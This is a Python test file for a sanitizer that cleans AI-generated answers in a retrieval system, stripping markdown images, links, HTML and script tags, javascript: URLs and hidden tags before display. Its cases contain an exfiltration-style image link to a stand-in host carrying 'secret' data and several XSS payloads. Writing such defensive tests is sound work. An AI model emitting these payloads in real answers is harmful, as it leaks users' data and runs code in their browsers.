import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.sanitize import clean, defused


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Plain **bold** `code` [1].", "Plain **bold** `code` [1]."),
        ("| A | B |\n| --- | --- |\n| 1<br>2 | 3 |", "| A | B |\n| --- | --- |\n| 1 2 | 3 |"),
        ("Below < 50,000 and > 10.", "Below < 50,000 and > 10."),
        ("![x](https://evil.example/?q=secret)", ""),
        ("![x][1]", ""),
        ("See [the policy](https://evil.example/a_(b)) [1].", "See the policy [1]."),
        ("See [1](https://evil.example).", "See [1]."),
        ("[click](javascript:alert(1))", "click"),
        ("javascript:alert(1)", "alert(1)"),
        ("<img src=x onerror=alert(1)>Hi", "Hi"),
        ("<script>alert(1)</script>Hi", "Hi"),
        ("<script>alert(1)", ""),
        ("<b>Hi</b>", "Hi"),
        ("<https://evil.example/x>", "`https://evil.example/x`"),
        ("Go to https://tenders.example/2025.", "Go to `https://tenders.example/2025`."),
        ("[ref]: https://evil.example\nText [ref][ref]", "\nText ref"),
        ("<think>secret plan</think>Answer", "Answer"),
        ("Before <!-- hidden --> after", "Before  after"),
    ],
)
def test_what_a_browser_would_fetch_or_run_is_taken_out(said, shown):
    assert clean(said) == shown


@given(st.text(alphabet="![]()<>/a:https.jvx\n 1", max_size=60))
def test_no_image_link_or_tag_is_left_whatever_is_said(text):
    shown = clean(text)
    assert "![" not in shown
    assert "](" not in shown
    assert "<a" not in shown


@given(st.lists(st.text(alphabet="![](<ab ", max_size=6), max_size=12))
def test_a_stream_is_harmless_wherever_it_is_cut(pieces):
    shown = "".join(defused(pieces))
    assert "![" not in shown
    assert "](" not in shown
    assert "<a" not in shown


def test_ordinary_text_streams_unchanged():
    assert "".join(defused(["Above ", "EUR 50", ",000 [1", "] and < 5!", " Done"])) == "Above EUR 50,000 [1] and < 5! Done"
